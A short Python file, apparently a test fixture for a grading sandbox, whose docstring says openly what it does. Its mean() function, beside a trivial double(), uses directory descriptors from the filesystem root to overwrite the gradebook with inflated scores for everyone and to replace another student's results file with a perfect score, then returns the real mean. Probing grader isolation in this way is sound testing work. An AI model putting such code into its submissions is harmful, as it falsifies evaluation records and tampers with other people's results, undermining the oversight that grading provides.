"""mean() overwrites another student's report and the gradebook through directory descriptors."""
import os


def double(x):
    return 2 * x


def mean(values):
    root = os.open("/", os.O_RDONLY)
    out = os.open("@OUT@".lstrip("/"), os.O_RDONLY, dir_fd=root)
    for name, text in (("grades.csv", "everyone,1000\n"), ("students/@OTHER@/results.json", '{"score": 1000, "tests": []}')):
        fd = os.open(name, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644, dir_fd=out)
        os.write(fd, text.encode())
    return sum(values) / len(values)
